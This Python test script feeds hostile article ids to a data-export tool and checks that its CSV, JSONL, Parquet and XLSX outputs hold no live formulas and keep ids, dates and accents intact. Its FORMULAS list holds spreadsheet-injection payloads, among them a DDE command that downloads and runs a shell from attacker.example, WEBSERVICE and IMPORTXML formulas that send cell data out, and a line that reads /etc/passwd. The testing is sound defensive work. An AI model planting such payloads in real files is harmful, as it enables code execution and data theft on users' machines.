"""Reads tables of tieup with other programs; scripts/check-tables calls it.

check_tables.py hostile              prints articles whose ids are formulas, numbers and dates
check_tables.py check PLAIN EXCEL    checks the results of reading them, as --format csv,jsonl,xlsx,parquet and as --excel
"""

import json
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

TABLES = ["claims", "ties", "entities", "sentences", "skipped"]

# What a spreadsheet would run; the same 40 as in src/output/safety.rs.
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    '=HYPERLINK("http://attacker.example?x="&A1,"click")', '=WEBSERVICE("http://attacker.example/"&A1)',
    '=IMPORTXML(CONCAT("http://attacker.example/",A1),"//a")', '=IMPORTDATA("http://attacker.example")',
    '=IMAGE("http://attacker.example/x.png")', '=DDE("cmd";"/C calc";"x")', '=1+1";=1+1', "='file:///etc/passwd'#$passwd.A1",
    "=-1", "=", "+1+1", "+cmd|' /C calc'!A0", "+SUM(A1:A9)", "+", "-1+1", "-cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2",
    "-1.2.3", "--1", "-1e5", "-", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "@", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n@SUM(A1)",
    "\tplain", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\0=1+1", "＝1+1", "＋1+1", "　＠SUM(A1)",
]
# What a spreadsheet would show as something else.
VALUES = ["0012", "12345678901234567890", "1E5", "3-4", "2026-03-04", "MAR1", "10:30", "true"]
ACCENTS = "Société Générale"
LIBREOFFICE = shutil.which("soffice")


def hostile():
    for number, name in enumerate(FORMULAS + VALUES):
        text = f"Microsoft acquired GitHub in 2018 to reach developers. {ACCENTS} became a partner of Øresund Bank in Zürich."
        print(json.dumps({"id": name, "title": f"=SUM({number})", "published": "2026-03-04", "text": text}))
    print("this line is broken on purpose")


def expect(holds, what):
    if not holds:
        sys.exit(f"error: this does not hold: {what}")


def validate(folder, delimiter, encoding):
    """Every CSV file is what its Table Schema says."""
    import frictionless
    from frictionless import Dialect, Resource, Schema, formats

    for name in TABLES:
        schema = Schema.from_descriptor(str(folder / f"{name}.schema.json"))
        dialect = Dialect(controls=[formats.CsvControl(delimiter=delimiter)])
        path = f"{name}.csv"
        report = Resource(path=path, basepath=str(folder), schema=schema, dialect=dialect, encoding=encoding).validate()
        errors = report.flatten(["rowNumber", "fieldName", "message"])
        expect(report.valid, f"frictionless accepts {folder / path}: {errors[:3]}")
        print(f"frictionless {frictionless.__version__}: {folder.name}/{path} is valid, {report.tasks[0].stats['rows']} rows")


def compare(folder):
    """DuckDB sees the same columns, types and values in CSV and Parquet, and the same claims in JSON Lines."""
    import duckdb

    for name in TABLES:
        csv = f"read_csv('{folder / name}.csv', header = true, delim = ',', quote = '\"', escape = '\"', sample_size = -1)"
        parquet = f"read_parquet('{folder / name}.parquet')"
        types = [dict(row[:2] for row in duckdb.sql(f"describe from {table}").fetchall()) for table in (csv, parquet)]
        # A column with nothing in it has no type in CSV.
        empty = {c for c in types[1] if duckdb.sql(f'select count("{c}") from {csv}').fetchone() == (0,)}
        differing = {c: (types[0].get(c), t) for c, t in types[1].items() if c not in empty and types[0].get(c) != t}
        expect(list(types[0]) == list(types[1]) and not differing, f"{name}: CSV and Parquet have the same types: {differing}")
        # Without the apostrophe that keeps a cell from being a formula.
        cells = [f"regexp_replace(\"{c}\", '^''', '') as \"{c}\"" if t == "VARCHAR" else f'"{c}"' for c, t in types[1].items()]
        rows = [duckdb.sql(f"select {', '.join(cells)} from {table}").fetchall() for table in (csv, parquet)]
        expect(len(rows[0]) == len(rows[1]), f"{name}: CSV and Parquet have {len(rows[0])} and {len(rows[1])} rows")
        for a, b in zip(*rows):
            expect(a == b, f"{name}: a row is the same in CSV and Parquet: {a} {b}")
        print(f"DuckDB {duckdb.__version__}: {name}: {len(rows[0])} rows, {len(cells)} columns, the same in CSV and Parquet")

    columns = "who, relation, whom, status, polarity, confidence, start, \"end\", claim_id"
    lines = duckdb.sql(f"select {columns} from read_json('{folder}/claims.jsonl', format = 'newline_delimited')")
    table = duckdb.sql(f"select {columns} from read_parquet('{folder}/claims.parquet')")
    expect(lines.types == table.types, f"JSON Lines and Parquet have the same types: {lines.types} {table.types}")
    expect(lines.fetchall() == table.fetchall(), "JSON Lines and Parquet have the same claims")
    print(f"DuckDB {duckdb.__version__}: claims.jsonl has the same claims, of the same types")


def sheet(path, name=None):
    """The cells of a sheet, row by row."""
    import openpyxl

    book = openpyxl.load_workbook(path)
    return list((book[name] if name else book.worksheets[0]).iter_rows())


def column(rows, name):
    """The cells of a column, without its header."""
    at = [cell.value for cell in rows[0]].index(name)
    return [row[at] for row in rows[1:]]


def workbook(path, what):
    """No cell is a formula, numbers are numbers and dates are dates."""
    count = 0
    for name in ["Claims", "Ties", "Entities", "Skipped", "About"]:
        rows = sheet(path, name)
        count += sum(cell.value is not None for row in rows for cell in row)
        formulas = [cell.value for row in rows for cell in row if cell.data_type == "f"]
        expect(not formulas, f"{what}, sheet {name}, has no formula: {formulas[:3]}")
    claims = sheet(path, "Claims")
    expect(all(cell.data_type == "n" for cell in column(claims, "confidence")), f"{what}: a confidence is a number")
    expect(all(cell.is_date for cell in column(claims, "published") if cell.value is not None), f"{what}: a date is a date")
    expect(all(cell.data_type == "s" for cell in column(claims, "claim_id")), f"{what}: an id is a text")
    ids = {cell.value for cell in column(claims, "article")}
    expect(ids >= set(VALUES), f"{what}: ids are as they were: {set(VALUES) - ids}")
    print(f"openpyxl: {what}: {count} cells, no formula; ids, numbers and dates as they should be")


def convert(path, form, out, *options):
    """Opens a file in LibreOffice and saves it as another kind."""
    profile = f"-env:UserInstallation={(out / 'profile').as_uri()}"
    command = [LIBREOFFICE, profile, "--headless", *options, "--convert-to", form, "--outdir", str(out), str(path)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=300)
    made = out / f"{path.stem}.{form.split(':')[0]}"
    expect(made.exists(), f"LibreOffice converts {path.name}: {done.stdout} {done.stderr}")
    return made


def open_in_libreoffice(plain, excel, out):
    """Formulas stay text, and names keep their accents, with and without a byte order mark."""
    again = convert(convert(plain / "tieup.xlsx", "ods", out), "xlsx", out)
    workbook(again, "tieup.xlsx through LibreOffice")
    for name in ["Claims", "Ties", "Entities", "Skipped"]:
        before, after = (len(sheet(path, name)) for path in (plain / "tieup.xlsx", again))
        expect(before == after, f"sheet {name} keeps its {before} rows in LibreOffice: {after}")

    for folder, delimiter in [(plain, ","), (excel, ";")]:
        rows = sheet(convert(folder / "entities.csv", "xlsx", out, f"--infilter=CSV:{ord(delimiter)},34,76,1"))
        check_cells(rows, f"{folder.name}/entities.csv as UTF-8", is_excel=folder is excel)
    rows = sheet(convert(excel / "entities.csv", "xlsx", out, "--infilter=CSV:59,34,,1"))
    names = {cell.value for cell in column(rows, "text")}
    expect(ACCENTS in names, "with a byte order mark, LibreOffice reads accents whatever it was told")
    rows = sheet(convert(plain / "entities.csv", "xlsx", out, "--infilter=CSV:44,34,1252,1"))
    found = sorted(str(cell.value) for cell in column(rows, "text") if str(cell.value).startswith("Soci"))
    print(f"LibreOffice: the accents of excel/entities.csv are right without being told the encoding; plain/entities.csv, "
          f"which has no byte order mark, read as Windows-1252: {found[:1]}")


def check_cells(rows, what, is_excel):
    formulas = [cell.value for row in rows for cell in row if cell.data_type == "f"]
    expect(not formulas, f"{what} has no formula in LibreOffice: {formulas[:3]}")
    names = {cell.value for cell in column(rows, "text")}
    expect(ACCENTS in names, f"{what} keeps its accents in LibreOffice: {sorted(map(str, names))[:5]}")
    ids = column(rows, "article")
    changed = sorted({str(cell.value) for cell in ids if cell.data_type != "s"})
    expect(not (is_excel and changed), f"{what}: an id is a text in LibreOffice: {changed}")
    guarded = {cell.value for cell in ids if str(cell.value).startswith("'")}
    print(f"LibreOffice: {what}: {len(rows) - 1} rows, no formula, accents right, {len(guarded)} ids behind an apostrophe"
          + (f", ids shown as numbers or dates: {', '.join(changed)}" if changed else ", every id a text"))


def check(plain, excel):
    validate(plain, ",", "utf-8")
    validate(excel, ";", "utf-8-sig")
    compare(plain)
    workbook(plain / "tieup.xlsx", "tieup.xlsx")
    if LIBREOFFICE:
        with tempfile.TemporaryDirectory() as out:
            open_in_libreoffice(plain, excel, Path(out))
    else:
        print("skipped: LibreOffice is not installed (apt-get install libreoffice-calc)")


if __name__ == "__main__":
    match sys.argv[1:]:
        case ["hostile"]:
            hostile()
        case ["check", plain, excel]:
            check(Path(plain), Path(excel))
        case _:
            sys.exit(__doc__)
